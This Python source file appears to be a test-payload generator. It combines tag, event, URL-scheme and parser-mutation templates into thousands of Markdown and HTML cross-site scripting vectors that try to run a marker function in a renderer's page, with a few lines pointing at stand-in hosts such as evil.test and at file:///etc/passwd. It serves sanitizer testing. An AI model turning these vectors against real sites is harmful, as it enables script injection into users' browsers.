"""Attacks on rendering: thousands of Markdown sources, each of which tries to run `__xss()` in the reader's page."""

from __future__ import annotations

import itertools
from collections.abc import Iterator

RUN = "__xss()"

_ELEMENTS = (
    "img input video audio body svg iframe details object embed a p div table td button form select textarea marquee "
    "style script link meta base math keygen isindex xss custom-tag span b pre code h2 li summary ruby figure"
)
_EVENTS = (
    "onerror onload onclick onmouseover onfocus ontoggle onbegin onanimationstart onpointerenter onstart ONERROR "
    "onwheel\t onload\x0c onscroll/ formaction"
)
# How an attribute may be squeezed in.
ATTRIBUTE_SHAPES = (
    "<{tag} src=x {event}={js}>",
    '<{tag} src="x" {event}="{js}" autofocus tabindex=1>',
    "<{tag}/src=x/{event}='{js}'/>",
    "<{tag} src=x{newline}{event}{newline}={newline}`{js}`>",
    '<{tag} title="><{tag} {event}={js}>">',
    "<{tag} {event}={js}//",
    '<{tag} src=x a="b"{event}="{js}">',
    "<<{tag} {event}={js}>>",
    "<{tag} class=callout style='x:expression({js})' {event}={js}>x</{tag}>",
)

SCHEMES = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    " javascript:{js}",
    "\x01javascript:{js}",
    "java\tscript:{js}",
    "java\nscript:{js}",
    "java\r\nscript:{js}",
    "java\x00script:{js}",
    "java&#10;script:{js}",
    "java&Tab;script:{js}",
    "java&NewLine;script:{js}",
    "javascript&colon;{js}",
    "javascript&#58;{js}",
    "javascript&#x3a;{js}",
    "javascript&#x0003A{js}",
    "&#106;avascript:{js}",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;{js}",
    "&#0000106avascript:{js}",
    "&#14;javascript:{js}",
    "\u00a0javascript:{js}",
    "\u3000javascript:{js}",
    "\ufeffjavascript:{js}",
    "java\u200bscript:{js}",
    "java\u00adscript:{js}",
    "\u2028javascript:{js}",
    "javascript://example.com/%0a{js}",
    "javascript:alert`1`,{js}",
    "javascript:%5f%5fxss()",
    "vbscript:{js}",
    "livescript:{js}",
    "mocha:{js}",
    "data:text/html,<script>{js}</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload={js}>",
    "DATA:text/html,x",
    "blob:http://x/y",
    "filesystem:http://x/y",
    "view-source:javascript:{js}",
    "feed:javascript:{js}",
    "jar:javascript:{js}!/",
    "file:///etc/passwd",
    "file:" + "ab" * 32 + "/../javascript:{js}",
    "article:javascript:{js}",
    "article:0190a1b2-0000-7000-8000-000000000001javascript:{js}",
    "about:blank",
    "ws://x/",
    "intent://x#Intent;end",
    "x-javascript:{js}",
    "//javascript:{js}",
    "\\\\evil.test\\x",
    "/\\evil.test/x",
    '#" onclick="{js}',
    '?" onclick="{js}',
    "#c-x' onclick='{js}",
    'https://a.test/" onclick={js} x="',
    "https://a.test/<script>{js}</script>",
    "https://a.test/&quot; onclick={js} x=&quot;",
    "https:javascript:{js}",
    "http://javascript:{js}@evil.test/",
    "日本javascript:{js}",
)  # fmt: skip
# Where an address may stand.
ADDRESS_SHAPES = (
    "[x]({url})",
    "[x](<{url}>)",
    '[x]({url} "t")',
    "![x]({url})",
    "![x](<{url}>){{width=300}}",
    "[![x]({url})]({url})",
    "<{url}>",
    "[x][r]\n\n[r]: {url}",
    "[x][r]\n\n[r]: <{url}> 'on'",
    "![x][r]\n\n[r]: {url}",
    "text {url} text",
    '<a href="{url}">x</a>',
    "<a href='{url}'>x</a>",
    "<a href={url}>x</a>",
    '<a xlink:href="{url}" href="/ok">x</a>',
    '<img src="{url}">',
    '<img srcset="{url} 1x" lowsrc="{url}" src="/ok">',
    '<iframe src="{url}"></iframe>',
    '<iframe srcdoc="{url}" src="https://www.youtube.com/embed/abc"></iframe>',
    '<form action="{url}"><input type=submit formaction="{url}"></form>',
    '<object data="{url}"></object><embed src="{url}">',
    '<svg><a xlink:href="{url}"><text y=9>x</text></a></svg>',
    '<svg><use href="{url}"/><animate attributeName=href values="{url}"/></svg>',
    '<math href="{url}"><mtext>x</mtext></math>',
    '<base href="{url}"><meta http-equiv=refresh content="0;url={url}"><link rel=stylesheet href="{url}">',
    '<table background="{url}"><tr><td background="{url}" style="background:url({url})">x</table>',
    '<blockquote cite="{url}">x</blockquote><q cite="{url}">y</q>',
    '<video poster="{url}" src="{url}"><source src="{url}"></video>',
    "x[^1]\n\n[^1]: [y]({url})",
    "## x {{#{url}}}",
    ":::tip [x]({url})\n[y]({url})\n:::",
    "> [!NOTE] [x]({url})\n> <{url}>",
    "| [x]({url}) |\n|-|\n| <a href='{url}'>y</a> |",
)

# Markup that parsers have been known to read in two ways.
MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    '<svg></p><style><a id="</style><img src=1 onerror={js}>">',
    '<math><mi//xlink:href="data:x,<script>{js}</script>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={js}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>",
    "<svg><style><img src=x onerror={js}></style></svg>",
    "<svg><desc><template><svg></template><img src=x onerror={js}></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{js}</script>'></foreignObject></svg>",
    "<svg><title><style><img src=x onerror={js}></style></title></svg>",
    "<svg><script>{js}</script></svg>",
    "<svg><script href=data:,{js} /></svg>",
    "<svg><a><animate attributeName=href to=javascript:{js} /><text x=20 y=20>x</text></a></svg>",
    "<svg/onload={js}>",
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror={js}>//"></svg>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror={js}></annotation-xml></math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:{js}">x</maction></math>',
    "<template><script>{js}</script></template>",
    "<template shadowrootmode=open><img src=x onerror={js}></template>",
    '<xmp><p title="</xmp><img src=x onerror={js}>"></xmp>',
    "<plaintext><img src=x onerror={js}>",
    '<textarea><img title="</textarea><img src=x onerror={js}>">',
    '<title><img title="</title><img src=x onerror={js}>">',
    '<style><img title="</style><img src=x onerror={js}>">',
    "<style>*{{background:url(javascript:{js})}}</style>",
    '<iframe><img title="</iframe><img src=x onerror={js}>">',
    '<noembed><img title="</noembed><img src=x onerror={js}>">',
    '<noframes><img title="</noframes><img src=x onerror={js}>">',
    "<select><template><img src=x onerror={js}></template></select>",
    "<select><option><style></option></select><img src=x onerror={js}></style>",
    "<!--><img src=x onerror={js}>-->",
    "<!---><img src=x onerror={js}>-->",
    "<!-- --!><img src=x onerror={js}>-->",
    "<!-- <!-- --><img src=x onerror={js}> -->",
    "<!--[if IE]><script>{js}</script><![endif]-->",
    "<![CDATA[<img src=x onerror={js}>]]>",
    "<?xml <img src=x onerror={js}>?>",
    '<!DOCTYPE html [<!ENTITY x "<img src=x onerror={js}>">]>&x;',
    "<a<img src=x onerror={js}>",
    "<img\x00src=x onerror={js}>",
    "<im\x00g src=x onerror={js}>",
    "<scr\x00ipt>{js}</scr\x00ipt>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<script>{js}</script >",
    "<script/x>{js}</script>",
    "<script\n>{js}</script\n>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "</script><script>{js}</script>",
    "</div></div></div></body></html><script>{js}</script>",
    "</p></div><div id=main><form name=body><input name=parentNode></form>",
    "<table><td><svg><desc><td><style><img src=x onerror={js}>",
    "<table><script>{js}</script><tr><img src=x onerror={js}><td><table><tr onclick={js}>",
    "<p><table><p><img src=x onerror={js}></table>",
    "<b><p><i></b><img src=x onerror={js}></i></p>",
    "<a href=/x><table><a href=javascript:{js}>x</table>",
    "<a href=\"/x\"><a href='javascript:{js}'>x</a></a>",
    "<ruby><rt><ruby><script>{js}</script></rt>",
    "<details><summary><details ontoggle={js} open><summary>x</details>",
    "<pre>\n\n<img src=x onerror={js}></pre>",
    "<li><li></ul><ol><script>{js}</script>",
    "<img alt='`<script>{js}</script>`' src=x>",
    '<img src="x` `<script>{js}</script>"` `>',
    "<img src='x' title='{js}\" onerror=\"{js}'>",
    '<img src=x title="&quot; onerror=&quot;{js}">',
    '<img src=x alt="&lt;img src=x onerror={js}&gt;">',
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{js}&amp;lt;/script&amp;gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "\u003cscript\u003e{js}\u003c/script\u003e",
    "＜script＞{js}＜/script＞",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "<div id=__proto__><a name=document id=location>x</a><img name=cookie id=body src=x>",
    '<p style="background:url(javascript:{js});text-align:center;behavior:url(x)">x</p>',
    "<p style='text-align:center}}*{{background:red'>x</p>",
    "<p class=\"visually-hidden button hl-x callout\" data-x='{js}' is=x-y slot=z part=w nonce=n>x</p>",
    "<input type=checkbox disabled checked onfocus={js} autofocus>",
    "<input type=image src=x onerror={js}><input type=hidden disabled>",
    "<iframe src=https://www.youtube.com/embed/x onload={js} name=x allow=camera sandbox></iframe>",
    "<isindex action=javascript:{js} type=image>",
    "<portal src=javascript:{js}></portal><fencedframe src=x></fencedframe>",
    "<link rel=import href=data:text/html,<script>{js}</script>>",
    "<meta charset=utf-7><meta http-equiv=Set-Cookie content=x>",
    "<frameset onload={js}><frame src=javascript:{js}></frameset>",
    "<bgsound src=javascript:{js}><layer src=x></layer><xml src=x id=y></xml>",
    "<dialog open onclose={js}>x</dialog><menu onclick={js}><slot onslotchange={js}>",
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">{js}</x:script>',
    "<html xmlns:ev='x' ev:event=load><body background=javascript:{js} bgcolor=x>",
    '<a href="x" ping="//evil.test" target=_blank download rel=opener>x</a>',
    "<map name=m><area href=javascript:{js} shape=default></map><img usemap=#m src=x>",
    '<h2 id="x" onclick={js}>x</h2> [y](#x)',
    "<k onfocus={js} tabindex=0 contenteditable accesskey=x draggable=true>x</k>",
)  # fmt: skip

# Where any markup may stand.
PLACES = (
    "{x}",
    "text {x} text",
    "- {x}",
    "1. a\n\n   {x}",
    "> {x}",
    "> [!NOTE] {x}\n> {x}",
    ":::tip {x}\n{x}\n:::",
    ":::details {x}\n{x}",
    "# {x}",
    "## t {{#{x}}}",
    "| {x} | b |\n|:-:|-|\n| c | {x} |",
    "a[^1]\n\n[^1]: {x}",
    "a^[{x}]",
    "[{x}](/x)",
    '[a](/x "{x}")',
    "[a](/x '{x}')",
    "![{x}](/x.png)",
    '![a](/x.png "{x}")',
    "![a](/x.png){{width={x}}}",
    "[a][r]\n\n[r]: /x ({x})",
    "`{x}`",
    "```{x}\ncode\n```",
    '```js title="{x}"\n{x}\n```',
    "~~~html\n{x}\n~~~",
    "    {x}",
    "**{x}** *{x}* ~~{x}~~",
    "- [x] {x}",
    "<div>\n\n{x}\n\n</div>",
    "<details><summary>{x}</summary>\n{x}\n</details>",
    "<p title='{x}'>y</p>",
    '<a href="/x" title="{x}">y</a>',
    "<table><tr><td>{x}</table>",
    "<pre>{x}</pre>",
    "<!-- {x} -->",
    "<!-- --> {x} <!-- -->",
    "\\{x}",
    "&#x3c;{x}",
)  # fmt: skip


def _events() -> Iterator[str]:
    for number, (tag, event) in enumerate(itertools.product(_ELEMENTS.split(), _EVENTS.split(" "))):
        for shape in (number, number + 4):
            pattern = ATTRIBUTE_SHAPES[shape % len(ATTRIBUTE_SHAPES)]
            yield pattern.format(tag=tag, event=event.strip(), js=RUN, newline="\n" if number % 2 else "\t")


def _addresses() -> Iterator[str]:
    for number, scheme in enumerate(SCHEMES):
        url = scheme.replace("{js}", RUN)
        for position, shape in enumerate(ADDRESS_SHAPES):
            # Every address in half of the places, every place with half of the addresses.
            if (number + position) % 2 == 0:
                yield shape.format(url=url)


def _mutations() -> Iterator[str]:
    attacks = [attack.format(js=RUN) for attack in MUTATIONS]
    for number, attack in enumerate(attacks):
        yield attack
        for offset in range(12):
            yield PLACES[(number + 3 * offset) % len(PLACES)].format(x=attack)


def _pairs() -> Iterator[str]:
    """Two attacks that cut into one another."""
    attacks = [attack.format(js=RUN) for attack in MUTATIONS]
    for first, second in zip(attacks, attacks[7:] + attacks[:7], strict=True):
        yield first[: len(first) // 2] + second[len(second) // 2 :]
        yield first + "\n\n" + second[: len(second) // 2]


def payloads() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys([*_events(), *_addresses(), *_mutations(), *_pairs()]))
